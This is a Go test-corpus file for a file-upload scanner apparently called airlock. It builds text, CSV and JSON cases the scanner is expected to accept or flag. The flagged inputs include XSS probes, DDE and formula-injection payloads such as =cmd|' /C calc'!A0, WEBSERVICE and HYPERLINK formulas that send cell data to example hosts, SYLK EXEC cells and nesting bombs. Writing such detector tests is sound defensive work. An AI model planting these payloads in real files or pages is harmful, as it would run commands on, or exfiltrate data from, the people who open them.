package corpus

import (
	"fmt"
	"strings"

	"airlock"
)

// wideBig is s in UTF-16, big end first, with its mark.
func wideBig(s string) string {
	b := inUTF16(s)
	for i := 0; i+1 < len(b); i += 2 {
		b[i], b[i+1] = b[i+1], b[i]
	}
	return string(b)
}

func textCases() []Case {
	cases := []Case{}
	add := func(name string, want airlock.Reason, s string) {
		cases = append(cases, Case{Name: "text-" + name, Type: "text/plain", Want: want, Make: literally(s)})
	}
	long := strings.Repeat("All work and no play makes Jack a dull boy.\n", 120)
	add("of-prose.txt", "", long)
	add("in-latin-1.txt", "", "Gr\xfc\xdfe aus M\xfcnchen, caf\xe9\r\n")
	add("in-cyrillic.txt", "", "\xef\xf0\xe8\xed\xff\xf2 \xe2\xe7\xff\xf2\xfc\r\n")
	add("in-shift-jis.txt", "", "\x82\xb1\x82\xf1\x82\xc9\x82\xbf\x82\xcd\r\n")
	add("in-gbk.txt", "", "\xc4\xe3\xba\xc3\xa3\xac\xca\xc0\xbd\xe7\r\n")
	add("in-utf16.txt", "", string(inUTF16("Grüße 𝄞 from Notepad\r\n")))
	add("in-utf16-big.txt", "", wideBig("Grüße 𝄞\r\n"))
	add("in-iso-2022-jp.txt", "", "\x1b$B$3$s\x1b(B\r\n")
	add("with-mark.txt", "", "\xef\xbb\xbfhello\n")
	add("with-colours.log", "", "\x1b[32mINFO\x1b[0m ready\x07\nprogress 10%\b\b\b20%\n")
	add("with-form-feeds.txt", "", "RFC 1\x0c\nPage 2\x0b\n")
	add("of-dos.txt", "", "C:\\> type readme\r\n\x1a")
	add("padded-as-cp-m.txt", "", "hello\r\n"+strings.Repeat("\x1a", 100))
	add("with-angles.txt", "", "if a < b and b > c then <see below> ask <jane@example.com>\n")
	add("that-speaks-of-tags.txt", "", "Use the <script> tag, or <img> with an onerror handler; see <iframe>, <body> and <?xml.\n")
	add("with-script-far-down.txt", "", strings.Repeat(long, 4)+"<script>alert(1)</script>\n")
	add("of-json.txt", "", `{"a": [1, 2]}`)
	add("of-json-lines.log", "", "{\"level\":\"info\"}\n{\"level\":\"warn\"}\n")
	add("of-syslog.log", "", "<34>1 2003-10-11T22:14:15Z host su - ID47 - failed\n")
	add("of-a-letter.txt", "", "From: a@example.com\nTo: b@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: text/plain\n\nHello\n")
	add("of-subtitles.txt", "", "1\n00:00:01,000 --> 00:00:02,000\nHello\n")
	add("of-a-calendar.txt", "", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n")
	add("with-math.txt", "", "x<y, a<b>c\n")
	add("that-begins-with-a-heading.md", "", "<h1 align=\"center\">Project</h1>\n<p align=\"center\"><img src=\"https://example.com/logo.png\"></p>\n\nText.\n")
	add("that-begins-with-a-comment.md", "", "<!-- generated -->\n# Title\n")
	add("that-begins-with-details.md", "", "<details>\n<summary>x</summary>\n</details>\n")
	add("with-code-of-html.md", "", "# Use\n\n```html\n<script src=\"https://example.com/a.js\"></script>\n```\n\n    <img onerror=\"x\">\n\nand `<script>x</script>`.\n")
	add("with-a-film.md", "", "# Film\n<iframe src=\"https://example.com/film\"></iframe>\n")
	add("of-one-byte.txt", "", "a")

	add("that-is-a-page.txt", airlock.TypeMismatch, "<!DOCTYPE html><html><body>x</body></html>")
	add("that-is-a-page.md", airlock.TypeMismatch, "<html><head><title>x</title></head></html>")
	add("that-is-a-page-behind-spaces.txt", airlock.TypeMismatch, strings.Repeat(" \n", 4000)+"<html><script>alert(1)</script>")
	add("that-is-a-page-behind-a-mark.txt", airlock.TypeMismatch, "\xef\xbb\xbf<html><body>x")
	add("that-is-a-page-behind-a-comment.txt", airlock.TypeMismatch, "<!-- x --><html>")
	add("that-is-a-page-behind-a-comment.md", airlock.TypeMismatch, "<!-- x --> <!-- y -->\n<script>alert(1)</script>")
	add("that-is-a-page-in-utf16.txt", airlock.TypeMismatch, string(inUTF16("<html><script>alert(1)</script></html>")))
	add("that-is-a-drawing.txt", airlock.TypeMismatch, "<svg onload=alert(1)>")
	add("that-is-a-drawing-of-its-namespace.txt", airlock.TypeMismatch, svgOpen+svgRect+"</svg>")
	add("that-is-a-picture-that-runs.txt", airlock.TypeMismatch, "<img src=x onerror=alert(1)>")
	add("that-is-xml.txt", airlock.TypeMismatch, "<?xml version=\"1.0\"?><a/>")
	add("that-is-xml-behind-a-mark.txt", airlock.TypeMismatch, "\xef\xbb\xbf<?xml version=\"1.0\"?><a/>")
	add("that-is-php.txt", airlock.TypeMismatch, "<?php echo 1; ?>")
	add("that-is-php-behind-a-mark.txt", airlock.TypeMismatch, "\xef\xbb\xbf\n<?php echo 1; ?>")
	add("that-is-a-script.txt", airlock.TypeMismatch, "#!/bin/sh\nexit 0\n")
	add("that-is-a-script-behind-a-mark.txt", airlock.TypeMismatch, "\xef\xbb\xbf#!/bin/sh\nexit 0\n")
	add("that-is-rich-text.txt", airlock.TypeMismatch, `{\rtf1 x}`)
	add("that-is-rich-text-behind-a-mark.txt", airlock.TypeMismatch, "\xef\xbb\xbf{\\rtf1 x}")
	add("that-is-postscript.txt", airlock.TypeMismatch, "%!PS\n(x) show")
	add("that-is-a-pdf-behind-a-mark.txt", airlock.TypeMismatch, "\xef\xbb\xbf  %PDF-1.4\n1 0 obj<<>>endobj")
	add("that-is-an-exe.txt", airlock.TypeMismatch, pdfFakeEXE)
	add("that-is-a-saved-page.txt", airlock.TypeMismatch, "From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype=\"text/html\"\r\n\r\n--x\r\n")
	add("before-a-handler.txt", airlock.ActiveContent, "hello <img src=x onerror=alert(1)>")
	add("before-a-handler-behind-a-slash.txt", airlock.ActiveContent, "hello <svg/onload=alert(1)>")
	add("before-a-script.txt", airlock.ActiveContent, "hello\n<script>alert(1)</script>")
	add("before-a-script-beyond-the-first-sniffers-window.txt", airlock.ActiveContent, long[:1200]+"<script>alert(1)</script>")
	add("before-a-script-elsewhere.txt", airlock.ActiveContent, "hello <SCRIPT SRC=//example.com/a.js></SCRIPT>")
	add("before-a-link-that-runs.txt", airlock.ActiveContent, "hello <a href=\" java\tscript:alert(1)\">x</a>")
	add("before-a-frame.txt", airlock.ActiveContent, "hello <iframe src=https://example.com/></iframe>")
	add("before-a-refresh.txt", airlock.ActiveContent, "hello <meta http-equiv=refresh content=0;url=https://example.com/>")
	add("before-php.txt", airlock.ActiveContent, "GIF <?php echo 1; ?>")
	add("in-utf7.txt", airlock.ActiveContent, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
	add("before-a-script-in-utf16.txt", airlock.ActiveContent, wideBig("hello <script>alert(1)</script>"))
	add("with-a-handler-outside-of-code.md", airlock.ActiveContent, "# x\n<img src=x onerror=alert(1)>\n")
	add("with-a-zero.txt", airlock.Malformed, long+"\x00 more\n")
	add("with-binary-far-down.txt", airlock.Malformed, strings.Repeat(long, 10)+"\x05\x14\x03")
	add("with-more-behind-its-end.txt", airlock.Malformed, "hello\x1a"+strings.Repeat("hidden ", 40))
	add("of-half-a-character.txt", airlock.Malformed, "\xff\xfea\x00\x00\xd8b\x00")
	add("of-odd-length-in-utf16.txt", airlock.Malformed, "\xff\xfea\x00b")
	add("of-no-character-in-utf32.txt", airlock.Malformed, "\xff\xfe\x00\x00a\x00\x00\x00\x00\x00\x11\x00")
	return append(append(cases, tableCases()...), tableTricks()...)
}

func tableCases() []Case {
	cases := []Case{}
	add := func(name string, want airlock.Reason, s string) {
		mediaType := "text/csv"
		if strings.HasSuffix(name, ".tsv") {
			mediaType = "text/tab-separated-values"
		}
		cases = append(cases, Case{Name: "table-" + name, Type: mediaType, Want: want, Make: literally(s)})
	}
	add("of-people.csv", "", "name,age\nAda,36\nAlan,41\n")
	add("of-one-column.csv", "", "name\nAda\n")
	add("with-ragged-rows.csv", "", "a,b,c\n1\n2,3\n\"broken,quote\n")
	add("with-semicolons.csv", "", "sep=;\r\nID;Product;Price\r\n1;Pen;1,50\r\n")
	add("whose-first-column-is-id-and-second-begins-with-p.csv", "", "ID;Price\r\n1;2\r\n")
	add("of-a-head-only.csv", "", "ID;Price")
	add("of-hive.csv", "", "a\x01b\x02c\n1\x012\n")
	add("with-signs.csv", "", "=A1+1,-5,+49 30 1234,@handle,=SUM(A1:A3),-x|y!,'=cmd|' is text\n")
	add("with-a-link.csv", "", "url\n\"=HYPERLINK(\"\"https://example.com/?a=1&b=2\"\",\"\"x & y\"\")\"\n")
	add("with-bars.csv", "", "a|b|c\n-5|it's|wow!\n=|=|=\n-1|'x' |y!\n")
	add("with-html-in-cells.csv", "", "Handle,Body (HTML)\npen,\"<p>Nice <b>pen</b></p><iframe src=\"\"https://example.com/film\"\"></iframe>\"\n")
	add("with-quotes-of-traders.csv", "", "<TICKER>,<PER>,<DATE>\nX,D,20200101\n")
	add("in-utf16.csv", "", string(inUTF16("a\tb\r\n1\t2\r\n")))
	add("of-tabs.tsv", "", "a\tb\n1\t2\n")
	add("with-text-of-calls.csv", "", "note\n- call (me) back | please!\n- exec(utive) summary\n")
	add("with-words-of-functions.csv", "", "note\n-Call(s) per day\n-rtd(1)\n+shell(oil)\n+call(foo)\n-shell(s)\n@register(name)\n=== register (2) ===\n=a|b!\n\"-hyperlink(a&b)\"\n- Image (1) & x\n- Webservice (REST)\n")
	add("with-names-of-functions.csv", "", "a,\"=IF(A1=\"\"webservice\"\",1,2)\"\n=SUM(ImportData)\n\"=HYPERLINK(\"\"https://example.org/webservice\"\",\"\"\"\")\"\n=IMAGE(\"https://example.org/a.png\")\n")
	add("with-a-long-link.csv", "", "=HYPERLINK(\"https://example.org/"+strings.Repeat("a", 600)+"?a&b\")\n")
	add("of-json-lines.csv", "", "{\"a\":1}\n{\"a\":2}\n")

	add("with-dde.csv", airlock.ActiveContent, "a,b\n=cmd|' /C calc'!A0,1\n")
	add("with-dde-in-quotes.csv", airlock.ActiveContent, "a,b\n1,\"=cmd|'/C calc'!A0\"\n")
	add("with-dde-behind-a-sum.csv", airlock.ActiveContent, "a\n@SUM(1+1)*cmd|' /C calc'!A0\n")
	add("with-dde-behind-numbers.csv", airlock.ActiveContent, "a;b\n1;-2+3+cmd|' /C calc'!D2\n")
	add("with-dde-spaced-out.csv", airlock.ActiveContent, "=    C    m D    |    '/ c cal c . e x e  '   !   A\n")
	add("with-dde-without-quotes.csv", airlock.ActiveContent, "=MSEXCEL|inert!A1\n")
	add("with-dde-by-a-function.csv", airlock.ActiveContent, "=DDE(\"soffice\",\"inert\",\"x\")\n")
	add("with-dde.tsv", airlock.ActiveContent, "a\tb\n1\t+cmd|' /C calc'!A0\n")
	add("with-dde-in-utf16.csv", airlock.ActiveContent, string(inUTF16("a,b\r\n=cmd|' /C calc'!A0,1\r\n")))
	add("with-dde-far-down.csv", airlock.ActiveContent, strings.Repeat("1,2,3\n", 20000)+"=cmd|' /C calc'!A0\n")
	add("with-a-call.csv", airlock.ActiveContent, "=CALL(\"inert\",\"x\",\"JJ\")\n")
	add("that-fetches.csv", airlock.ActiveContent, "=WEBSERVICE(\"https://example.com/?\"&A1)\n")
	add("that-fetches-inside-a-formula.csv", airlock.ActiveContent, "a,\"=CONCAT(\"\"x\"\",IMPORTXML(\"\"https://example.com/\"\",\"\"//a\"\"))\"\n")
	add("with-a-link-that-sends-cells.csv", airlock.ActiveContent, "=HYPERLINK(\"https://example.com/?x=\"&A1&B1,\"click\")\n")
	long := strings.Repeat("a", 600)
	for i, f := range []string{
		`=COM.MICROSOFT.WEBSERVICE("https://example.org/?"&A1)`, `=WEBDIENST("https://example.org/?"&A1)`, `=SERVICEWEB("https://example.org/?"&A1)`,
		`=SERVIZIO.WEB("https://example.org/?"&A1)`, `=ВЕБСЛУЖБА("https://example.org/?"&A1)`, `=AUFRUFEN("inert";"x";"JJ")`,
		`=LIEN_HYPERTEXTE("https://example.org/?"&A1)`, `=HYPERLINK("https://example.org/` + long + `"&A1)`, `=HYPERLINK(""&"https://example.org/?"&A1)`,
		`=IMAGE("https://example.org/` + long + `"&A1)`, `=IMAGE(""&"https://example.org/?"&A1)`, `=IMAGE(A2)`, `=BILD(A2)`,
		`=HYPERLINK("vnd.sun.star.script:x?language=Basic")`, `=HYPERLINK("vnd.libreoffice.command:x")`, `=HYPERLINK("ms-msdt:/id x")`, `=HYPERLINK("javascript:alert(1)")`,
		`=IMPORTTEXT("https://example.org/?"&A1)`, `=IMPORTCSV("https://example.org/?"&A1)`, `=LET(f;WEBSERVICE;f("https://example.org/?"&A1))`, `=MAP(A1:A9;_xleta.WEBSERVICE)`,
		`+ WEBSERVICE("https://example.org/?"&A1)`, `+WEBSERVICE ("https://example.org/?"&A1)`, "=\u00a0WEBSERVICE\u00a0(\"https://example.org/?\"&A1)", "=WEBSERVICE\uff08\"https://example.org/?\"&A1)",
		`+ HYPERLINK("https://example.org/?"&A1)`, `-CALL( "inert")`, `@rtd("inert")`,
	} {
		add(fmt.Sprintf("that-runs-or-fetches-%d.csv", i+1), airlock.ActiveContent, "a;b\nx;"+f+"\n")
	}
	add("with-a-separator-of-two.csv", airlock.ActiveContent, "sep=:;\nx:=cmd|'/C calc'!A0\n")
	add("with-a-separator-and-others.csv", airlock.ActiveContent, "sep=:,,,\nx:=cmd|'/C calc'!A0\n")
	add("with-a-link-to-a-share.csv", airlock.ActiveContent, "=HYPERLINK(\"\\\\192.0.2.1\\share\",\"click\")\n")
	add("before-a-script.csv", airlock.ActiveContent, "a,b\n1,<script>alert(1)</script>\n")
	add("that-is-sylk-behind-blank-lines.csv", airlock.TypeMismatch, "ID;P\n\nX;x\n"+strings.Repeat("\n", 3000)+"C;X1;Y1;K0;ECALL(\"inert\",\"inert\")\nE\n")
	add("that-is-sylk-with-old-line-ends.csv", airlock.TypeMismatch, "ID\rC;X1;Y1;K0;E1+EXEC(\"inert\")\rE\r")
	add("that-is-sylk-with-a-mark.csv", airlock.TypeMismatch, "\xef\xbb\xbfid;n\r\nNA;x\r\nC;K\";E\";Ecmd|'/c inert'!A0")
	add("of-classes-by-id.csv", "", "ID;Class;Extra\nC;Extra (see note);E1\nC;Execute (x);EUR (12)\n")
	add("that-is-sylk.csv", airlock.TypeMismatch, "ID;PWXL;N;E\nO;E\nC;X1;Y1;K0;EEXEC(\"inert\")\nE\n")
	add("that-is-a-page.csv", airlock.TypeMismatch, "<table><tr><td>1</td></tr></table>")
	add("with-a-zero.csv", airlock.Malformed, strings.Repeat("1,2,3\n", 1000)+"1,\x00,3\n")
	return append(cases, Case{Name: "table-with-dde-that-the-profile-takes.csv", Type: "text/csv", Make: literally("=cmd|' /C calc'!A0\n"),
		Change: func(p *airlock.Profile) { p.ActiveContent = "allow" }},
		Case{Name: "text-by-its-head-only.txt", Type: "text/plain", Make: literally(strings.Repeat("line\n", 20000) + "\x00"),
			Change: func(p *airlock.Profile) { p.Inspect = "header" }})
}

func jsonCases() []Case {
	cases := []Case{}
	add := func(name string, want airlock.Reason, s string) {
		cases = append(cases, Case{Name: "json-" + name + ".json", Type: "application/json", Want: want, Make: literally(s)})
	}
	add("of-an-object", "", `{"a":[1,-0.5e+10,true,false,null,"x\u00fc\n\/"],"b":{}}`)
	add("of-a-string", "", `"just text"`)
	add("of-a-number", "", "0")
	add("of-null-and-a-newline", "", "null\n")
	add("with-mark", "", "\xef\xbb\xbf{\"a\":1}\r\n")
	add("in-utf16", "", string(inUTF16("{\"a\":\"ü𝄞\"}\r\n")))
	add("of-a-map", "", `{"type":"FeatureCollection","features":[]}`)
	add("of-a-model", "", `{"asset":{"version":"2.0"}}`)
	add("with-html-in-strings", "", `{"html":"<script>alert(1)</script>"}`)
	add("with-a-key-twice", "", `{"a":1,"a":2}`)
	add("with-half-a-character-escaped", "", `"\ud800"`)
	add("of-lines", "", "{\"_id\":1}\n{\"_id\":2}\n\n{\"_id\":3}\n")
	add("of-lines-with-carriage-returns", "", "[1]\r\n[2]\r\n")
	add("that-is-broad", "", "{\n  \"a\": [\n    1\n  ]\n}\n")
	add("of-a-thousand-brackets", "", strings.Repeat("[", 1000)+strings.Repeat("]", 1000))
	add("that-is-long", "", "["+strings.Repeat(`{"text":"grüße"},`, 5000)+"1]")

	add("cut", airlock.Malformed, `{"a":[1,2`)
	add("cut-in-a-character", airlock.Malformed, "\"a\xc3")
	add("with-a-comma-too-many", airlock.Malformed, `[1,2,]`)
	add("with-a-comment", airlock.Malformed, "// x\n{}")
	add("with-nan", airlock.Malformed, `{"a":NaN}`)
	add("with-single-quotes", airlock.Malformed, `{'a':1}`)
	add("with-a-key-without-quotes", airlock.Malformed, `{a:1}`)
	add("with-a-number-that-begins-with-zero", airlock.Malformed, `[01]`)
	add("with-a-newline-in-a-string", airlock.Malformed, "[\"a\nb\"]")
	add("with-an-unknown-escape", airlock.Malformed, `["\x41"]`)
	add("that-is-no-utf8", airlock.Malformed, "[\"\xff\"]")
	add("with-a-surrogate-in-utf8", airlock.Malformed, "[\"\xed\xa0\x80\"]")
	add("with-more-behind", airlock.Malformed, `{"a":1}{"b":2}`)
	add("with-a-page-behind", airlock.Malformed, "{\"a\":1}\n<script>alert(1)</script>")
	add("with-a-second-broad-value", airlock.Malformed, "{\n\"a\":1}\n{\"b\":2}")
	add("of-scalars-in-lines", airlock.Malformed, "1\n2\n")
	add("of-mixed-brackets", airlock.Malformed, `[1}`)
	add("of-script", airlock.Malformed, "callback({\"a\":1})")
	add("of-space", airlock.Malformed, " \n\t ")
	add("of-text", airlock.Malformed, "hello")
	add("that-is-a-page", airlock.TypeMismatch, "<html></html>")
	add("nested-too-deep", airlock.Bomb, strings.Repeat("[", 100000))
	add("nested-too-deep-in-objects", airlock.Bomb, strings.Repeat(`{"a":`, 2000)+"1"+strings.Repeat("}", 2000))
	return append(cases, Case{Name: "json-by-its-head-only.json", Type: "application/json", Make: literally("[" + strings.Repeat("1,", 50000) + "?"),
		Change: func(p *airlock.Profile) { p.Inspect = "header" }})
}
